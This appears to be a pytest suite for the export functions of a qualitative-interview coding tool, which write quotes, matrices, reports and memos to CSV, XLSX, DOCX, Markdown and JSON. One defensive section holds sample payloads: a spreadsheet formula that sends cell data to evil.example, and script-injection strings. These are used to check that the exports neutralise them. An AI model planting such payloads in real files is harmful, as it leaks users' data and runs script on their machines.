import csv
import json
import re
from collections import defaultdict

import docx
import openpyxl
import pytest
from click.testing import CliRunner

from qualcode import cli, open_project
from qualcode.export import Filters, build_report, quote_rows
from qualcode.spreadsheet import FORMULA_START, csv_cell

from .conftest import CORPORA, LESSONS, gold_rows


def unneutralised(cell: str) -> str:
    """A CSV cell as it was before the leading quote that stops a spreadsheet running it."""
    return cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_START else cell


@pytest.fixture(scope="module")
def db(gold_db):
    return open_project(gold_db)


def run(gold_db, *args):
    return CliRunner().invoke(cli.cli, [*args, "--db", str(gold_db)])


def source_files() -> dict[str, str]:
    return {p.stem: p.read_text(encoding="utf-8") for p in CORPORA.rglob("*") if p.suffix in (".txt", ".md")
            and p.parent != CORPORA}


def test_quote_table_csv_matches_database_and_sources(gold_db, db, tmp_path):
    out = tmp_path / "quotes.csv"
    result = run(gold_db, "export", "quotes", str(out))
    assert result.exit_code == 0, result.output
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(gold_rows()) == db.execute("SELECT count(*) FROM codings").fetchone()[0]
    assert {"excerpt_id", "title", "site", "district", "role", "kind", "date", "interviewer", "split", "speaker",
            "segment", "start_time", "text", "code_id", "level_1", "level_2", "coder", "memo"} <= set(rows[0])
    texts = dict(db.execute("SELECT id, text FROM documents").fetchall())
    sources = source_files()
    assert sum(row["text"].startswith("'- ") for row in rows) == 12  # field-note bullet lists, neutralised
    for row in rows:
        row["text"] = unneutralised(row["text"])
        start, end = int(row["start_char"]), int(row["end_char"])
        assert texts[row["document_id"]][start:end] == row["text"]
        if row["document_id"] in sources:  # the stored text is the file's body after its front matter
            source = sources[row["document_id"]]
            offset = len(source) - len(texts[row["document_id"]])
            assert source[offset + start: offset + end] == row["text"]
        lesson, _, _ = row["code_id"].partition(".")
        assert row["level_1"] == db.execute("SELECT name FROM codes WHERE id = ?", [lesson]).fetchone()[0]


def test_quote_table_xlsx_reads_back(gold_db, tmp_path):
    out = tmp_path / "quotes.xlsx"
    assert run(gold_db, "export", "quotes", str(out), "--code", "support", "--site", "Bayview Elementary").exit_code == 0
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, [c.value for c in r])) for r in sheet.iter_rows(min_row=2)]
    expected = [r for r in gold_rows() if r["code_id"].startswith("support.")
                and r["document_id"].startswith(("harbor-02", "harbor-05"))]
    assert len(rows) == len(expected) > 0
    assert {r["site"] for r in rows} == {"Bayview Elementary"}


def test_code_matrix(gold_db, tmp_path):
    out = tmp_path / "matrix.csv"
    assert run(gold_db, "export", "matrix", str(out), "--coder", "Rosa Delgado", "--pseudonymise").exit_code == 0
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 1332
    rosa = [r for r in gold_rows() if r["coder"] == "Rosa Delgado"]
    per_code = defaultdict(set)
    for r in rosa:
        per_code[r["code_id"]].add((r["document_id"], r["seq"]))
        per_code[r["code_id"].split(".")[0]].add((r["document_id"], r["seq"]))
    for code, segments in per_code.items():
        assert sum(int(r[code]) for r in rows) == len(segments), code
    assert {r["scaling"] for r in rows} == {"0", "1"}
    assert "Priya Natarajan" not in {r["speaker"] for r in rows} and "Participant 1" in {r["speaker"] for r in rows}


def test_report_markdown_has_chapters_sections_and_citations(db):
    report = build_report(db, Filters(where={"role": ["principal"]}), cap=2)
    assert [lesson["id"] for lesson in report.lessons] == ["purpose", "support", "scaling", "context"]
    assert "every document is quoted once before any is quoted twice" in report.rule
    for lesson in report.lessons:
        for code in lesson["codes"]:
            assert len(code["quotes"]) <= 2
            documents = {q["document_id"] for q in code["quotes"]}
            available = {d for d in {q["document_id"] for q in code["quotes"]}}
            assert len(documents) == len(code["quotes"]) or len(available) == 1
            for q in code["quotes"]:
                assert re.fullmatch(r"Principal, .+ \(fictional\), interview \d{4}-\d{2}-\d{2}, turn \d+", q["citation"])


def test_report_uncapped_counts_each_segment_once(db):
    report = build_report(db, Filters(codes=["support.coaching"]))
    section = report.lessons[0]["codes"][0]
    expected = {(r["document_id"], r["seq"]) for r in gold_rows() if r["code_id"] == "support.coaching"}
    assert section["total"] == len(section["quotes"]) == len(expected)
    assert sum(n for _, n in section["by_site"]) == len(expected)


def test_report_docx_reads_back(gold_db, tmp_path):
    out = tmp_path / "report.docx"
    result = run(gold_db, "export", "report", str(out), "--max-per-code", "3")
    assert result.exit_code == 0, result.output
    document = docx.Document(out)
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    lessons = [r[0] for r in open_project(gold_db).execute("SELECT name FROM codes WHERE depth = 0 ORDER BY sort_order")]
    assert headings == lessons
    quotes = [p for p in document.paragraphs if p.style.name == "Quote"]
    citations = [p.text for p in document.paragraphs if p.text.startswith("— ")]
    assert len(quotes) == len(citations) > 17
    assert all("(fictional)" in c for c in citations)
    md = tmp_path / "report.md"
    assert run(gold_db, "export", "report", str(md), "--code", "context", "--role", "teacher").exit_code == 0
    text = md.read_text()
    assert text.count("## ") >= 1 and "> — *Teacher, " in text


def test_json_export_same_rows(gold_db, db, tmp_path):
    out = tmp_path / "q.json"
    assert run(gold_db, "export", "json", str(out), "--code", "scaling.dilemmas").exit_code == 0
    rows = json.loads(out.read_text())
    assert rows == json.loads(json.dumps(quote_rows(db, Filters(codes=["scaling.dilemmas"]))))
    assert {r["code_id"] for r in rows} == {"scaling.dilemmas"}


def test_pseudonymise_is_consistent_and_leaves_no_speaker_name(db):
    rows = quote_rows(db, pseudonymise=True)
    real = {r[0] for r in db.execute("SELECT DISTINCT speaker FROM segments WHERE speaker IS NOT NULL")}
    named = {s for s in real if " " in s}  # full names such as "Priya Natarajan"
    assert named
    for row in rows:
        assert row["speaker"] not in named
        for name in named:
            assert name.lower() not in row["text"].lower(), name
    by_excerpt = {r["excerpt_id"]: r["speaker"] for r in rows}
    originals = {r["excerpt_id"]: r["speaker"] for r in quote_rows(db)}
    mapping = defaultdict(set)
    for excerpt_id, alias in by_excerpt.items():
        mapping[originals[excerpt_id]].add(alias)
    assert all(len(aliases) == 1 for aliases in mapping.values())
    assert len({next(iter(a)) for k, a in mapping.items() if k in named}) == len([k for k in mapping if k in named])


def test_memos_export(gold_db, tmp_path):
    assert run(gold_db, "memo", "add", "Priya Natarajan explains the cycle well.", "--segment",
               "harbor-03-coach-seacliff:4", "--coder", "Rosa Delgado").exit_code == 0
    out = tmp_path / "memos.md"
    assert run(gold_db, "export", "memos", str(out), "--pseudonymise").exit_code == 0
    text = out.read_text()
    assert "## Memos on segments" in text and "harbor-03-coach-seacliff:4" in text
    assert "Priya" not in text and "Participant" in text


@pytest.mark.parametrize(
    "args,message",
    [
        (["export", "quotes", "quotes.pdf"], "cannot write a table as '.pdf'"),
        (["export", "report", "report.txt"], "cannot write a report as '.txt'"),
        (["export", "quotes", "q.csv", "--code", "nope"], "unknown code 'nope'"),
        (["export", "matrix", "m.csv", "--coder", "Nobody"], "unknown coder 'Nobody'"),
    ],
)
def test_export_bad_input(gold_db, tmp_path, args, message):
    args = [str(tmp_path / a) if a.endswith((".pdf", ".txt", ".csv")) else a for a in args]
    result = run(gold_db, *args)
    assert result.exit_code == 1 and message in result.output
    assert "Traceback" not in result.output


# --- exports a spreadsheet will not execute, reports a browser will not run -------------------

EVIL_LINES = [
    '=HYPERLINK("http://evil.example/?"&A1, "Click for the audio")',
    "+1 for the coaching cycle, honestly.",
    "-2 degrees in the portables this week.",
    "@channel said the schedule changed.",
    "<script>alert(1)</script> and <img src=x onerror=alert(2)> and [the notes](javascript:alert(3)).",
]


@pytest.fixture
def evil_db(tmp_path):
    """A transcript whose lines start like formulas or carry HTML, each turn coded, and a
    document with a negative number and a formula among its attributes."""
    from qualcode.codebook import load_codebook, sync_codebook
    from qualcode.coding import apply_code
    from qualcode.ingest import IngestOptions, ingest_paths

    path = tmp_path / "evil.db"
    db = open_project(path)
    sync_codebook(db, load_codebook(LESSONS))
    transcript = tmp_path / "evil.txt"
    speakers = ["Interviewer", "Ava Moreno"]
    transcript.write_text("\n\n".join(f"{speakers[i % 2]}: {line}" for i, line in enumerate(EVIL_LINES)) + "\n")
    ingest_paths(db, [transcript], IngestOptions())
    with db.atomic():
        db.execute("""UPDATE documents SET attributes = '{"temperature": -3, "note": "=SUM(A1:A9)"}'""")
    for seq in range(1, len(EVIL_LINES) + 1):
        apply_code(db, f"evil:{seq}", "support.coaching", "Rosa", memo="@mention the coach" if seq == 2 else None,
                   create_coder=True)
    db.close()
    return path


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+1 for that", "'+1 for that"), ("-2 degrees", "'-2 degrees"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a = b", "a = b"), ("it's -2", "it's -2"),
    (-3, -3), (-0.5, -0.5), (0, 0), ("-3", "-3"), ("+1.5e-05", "+1.5e-05"), (None, None), ("", ""),
])
def test_csv_cells(value, written):
    assert csv_cell(value) == written


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def assert_inert_csv(rows):
    """No cell starts like a formula unless it is a bare number."""
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", value), value


@pytest.mark.parametrize("kind", ["quotes", "matrix"])
def test_csv_exports_neutralise_formulas(evil_db, tmp_path, kind):
    out = tmp_path / f"{kind}.csv"
    assert run(evil_db, "export", kind, str(out)).exit_code == 0
    rows = read_csv(out)
    assert len(rows) == len(EVIL_LINES)
    assert_inert_csv(rows)
    assert [r["note"] for r in rows] == ["'=SUM(A1:A9)"] * len(EVIL_LINES)
    assert [r["temperature"] for r in rows] == ["-3"] * len(EVIL_LINES)  # a negative number stays a number
    if kind == "quotes":
        assert [unneutralised(r["text"]) for r in rows] == EVIL_LINES
        assert [r["text"][0] for r in rows] == ["'", "'", "'", "'", "<"]
        assert rows[1]["memo"] == "'@mention the coach"
        assert [int(r["segment"]) for r in rows] == [1, 2, 3, 4, 5] and int(rows[4]["end_char"]) > 0
    else:
        assert [r["support.coaching"] for r in rows] == ["1"] * len(EVIL_LINES)


@pytest.mark.parametrize("kind", ["quotes", "matrix"])
def test_xlsx_exports_write_text_not_formulas(evil_db, tmp_path, kind):
    import zipfile

    out = tmp_path / f"{kind}.xlsx"
    assert run(evil_db, "export", kind, str(out)).exit_code == 0
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cells = [dict(zip(header, r)) for r in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(EVIL_LINES)
    assert all(c.data_type != "f" for row in cells for c in row.values())
    assert [r["note"].value for r in cells] == ["=SUM(A1:A9)"] * len(EVIL_LINES)  # the text itself, as text
    assert all(r["note"].data_type == "s" and r["note"].quotePrefix for r in cells)
    assert [r["temperature"].value for r in cells] == [-3] * len(EVIL_LINES)
    if kind == "quotes":
        assert [r["text"].value for r in cells] == EVIL_LINES
        assert [bool(r["text"].alignment.wrap_text) for r in cells] == [False] * 4 + [True]  # the one over 80
        assert cells[4]["note"].alignment.vertical == "top"  # laid out beside the wrapped cell, still text
        assert [r["segment"].value for r in cells] == [1, 2, 3, 4, 5]
        assert all(isinstance(r["start_char"].value, int) for r in cells)
    else:
        assert [r["support.coaching"].value for r in cells] == [1] * len(EVIL_LINES)


def test_query_csv_output_neutralises_formulas(evil_db):
    result = run(evil_db, "excerpts", "support.coaching", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.DictReader(result.output.splitlines()))
    assert_inert_csv(rows)
    assert [unneutralised(r["text"]) for r in rows] == EVIL_LINES


def test_json_keeps_text_exactly(evil_db, tmp_path):
    """JSON is read by programs, not spreadsheets: the transcript is kept as it was."""
    out = tmp_path / "quotes.json"
    assert run(evil_db, "export", "json", str(out)).exit_code == 0
    rows = json.loads(out.read_text())
    assert [r["text"] for r in rows] == EVIL_LINES and rows[0]["temperature"] == -3


def test_markdown_report_and_memos_escape_html(evil_db, tmp_path):
    import html

    import markdown

    assert run(evil_db, "memo", "add", "<img src=x onerror=alert(4)> worth a look", "--segment", "evil:5",
               "--coder", "Rosa").exit_code == 0
    report, memos = tmp_path / "report.md", tmp_path / "memos.md"
    assert run(evil_db, "export", "report", str(report), "--code", "support.coaching").exit_code == 0
    assert run(evil_db, "export", "memos", str(memos)).exit_code == 0
    for path, expected in ((report, EVIL_LINES), (memos, [EVIL_LINES[4], "<img src=x onerror=alert(4)> worth a look"])):
        rendered = markdown.markdown(path.read_text())
        assert "<script" not in rendered and "<img" not in rendered and "href" not in rendered  # no tag, no link
        text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
        for line in expected:
            assert line in text, line  # rendered, the quote reads as it was said


def test_docx_report_keeps_text_and_has_no_fields(evil_db, tmp_path):
    import zipfile

    out = tmp_path / "report.docx"
    assert run(evil_db, "export", "report", str(out), "--code", "support.coaching").exit_code == 0
    quotes = [p.text for p in docx.Document(out).paragraphs if p.style.name == "Quote"]
    assert [q.split(": ", 1)[1] for q in quotes] == EVIL_LINES
    body = zipfile.ZipFile(out).read("word/document.xml").decode()
    assert "instrText" not in body and "fldSimple" not in body and "<script" not in body


# --- spreadsheets laid out to be read, reports that name empty codes once -----------------------


def column_widths_read(sheet) -> dict[str, float]:
    """Each header's column width as written (openpyxl reads a run of equal widths as one range)."""
    from openpyxl.utils import get_column_letter

    by_index = {i: dim.width for dim in sheet.column_dimensions.values() for i in range(dim.min, dim.max + 1)}
    return {cell.value: by_index.get(i) for i, cell in enumerate(sheet[1], 1)} | {
        "_letters": [get_column_letter(i) for i in range(1, sheet.max_column + 1)]}


@pytest.mark.parametrize("kind", ["quotes", "matrix"])
def test_xlsx_is_laid_out_for_reading(gold_db, tmp_path, kind):
    from qualcode.export import XLSX_MAX_WIDTH

    out = tmp_path / f"{kind}.xlsx"
    assert run(gold_db, "export", kind, str(out)).exit_code == 0
    sheet = openpyxl.load_workbook(out).active
    widths = column_widths_read(sheet)
    letters = widths.pop("_letters")
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{letters[-1]}{sheet.max_row}" and sheet.max_row > 1000
    assert all(w is not None and len(str(h)) < w <= XLSX_MAX_WIDTH for h, w in widths.items()), widths
    header = [c.value for c in sheet[1]]
    if kind == "quotes":
        assert widths["text"] == XLSX_MAX_WIDTH > widths["site"] >= len("Bayview Elementary")
        assert widths["excerpt_id"] < widths["title"] < XLSX_MAX_WIDTH  # fitted, not one width for all
        column = {h: i for i, h in enumerate(header)}
        long = short = 0
        for row in sheet.iter_rows(min_row=2):
            text = row[column["text"]]
            if len(text.value) > XLSX_MAX_WIDTH or "\n" in text.value:
                long += 1
                assert text.alignment.wrap_text and text.alignment.vertical == "top"
                assert row[column["site"]].alignment.vertical == "top" and not row[column["site"]].alignment.wrap_text
            else:
                short += 1
                assert not text.alignment.wrap_text
        assert long > 500 and short > 0
    else:
        assert widths["support.coaching"] == len("support.coaching") + 3  # a 0/1 column fits its header


def test_column_widths_fit_and_cap():
    from qualcode.export import column_widths

    rows = [{"id": 7, "site": "Bayview", "text": "x" * 500, "note": None, "lines": "a longer line\nab"},
            {"id": -12345, "site": None, "text": "y", "note": None, "lines": "ab"}]
    assert column_widths(list(rows[0]), rows) == [9, 10, 80, 7, 16]  # a multi-line cell: its longest line
    assert column_widths(["text"], rows, cap=40) == [40]


def report_md(path, *args) -> str:
    out = path.parent / f"{path.name}.md"
    result = run(path, "export", "report", str(out), *args)
    assert result.exit_code == 0, result.output
    return out.read_text()


def section_codes(db) -> list[tuple[str, str]]:
    """(id, name) of every code that gets a report section: sub-codes, or a lesson without any."""
    rows = db.execute("""SELECT c.id, c.name FROM codes c WHERE c.archived = 0 AND (c.depth = 1 OR NOT EXISTS
                         (SELECT 1 FROM codes k WHERE k.parent_id = c.id)) ORDER BY c.codebook_id, c.sort_order""")
    return rows.fetchall()


@pytest.mark.parametrize("args,expected", [
    ([], lambda c: c != "support.coaching"),  # only support.coaching is coded in this project
    (["--code", "support"], lambda c: c.startswith("support.") and c != "support.coaching"),
])
def test_report_names_codes_without_excerpts_once_at_the_end(evil_db, args, expected):
    text = report_md(evil_db, *args)
    db = open_project(evil_db)
    unused = [(i, n) for i, n in section_codes(db) if expected(i)]
    assert unused and "Excerpts: 0" not in text and "By site: none" not in text
    assert text.count("### ") == 1 and "### Coaching fitted to the person (`support.coaching`)" in text
    lines = [line for line in text.splitlines() if line.startswith("Codes with no excerpts")]
    assert lines == [text.rstrip("\n").splitlines()[-1]]  # one line, the last
    assert lines[0] == "Codes with no excerpts: " + "; ".join(f"{n} (`{i}`)" for i, n in unused) + "."
    assert text.rstrip("\n").splitlines()[-3] == "---"
    report = build_report(db, Filters(codes=[a for a in args if a != "--code"]))
    assert [c["id"] for c in report.unused] == [i for i, _ in unused]


def test_report_docx_names_codes_without_excerpts(evil_db, tmp_path):
    out = tmp_path / "report.docx"
    assert run(evil_db, "export", "report", str(out)).exit_code == 0
    paragraphs = [p.text for p in docx.Document(out).paragraphs]
    unused = [(i, n) for i, n in section_codes(open_project(evil_db)) if i != "support.coaching"]
    assert paragraphs[-1] == "Codes with no excerpts: " + "; ".join(f"{n} ({i})" for i, n in unused) + "."
    assert sum(p.startswith("Codes with no excerpts") for p in paragraphs) == 1
    assert not any(p.startswith("Excerpts: 0") for p in paragraphs)


@pytest.mark.parametrize("args", [[], ["--code", "support.coaching", "--role", "principal"]])
def test_report_without_empty_codes_has_no_closing_line(gold_db, db, args):
    used = {r[0] for r in db.execute("SELECT DISTINCT code_id FROM coded_segments")}
    assert {i for i, _ in section_codes(db)} <= used  # every code is coded in the gold project
    text = report_md(gold_db, *args)
    assert "Codes with no excerpts" not in text and "\n---\n" not in text and "Excerpts: 0" not in text
    assert "### " in text
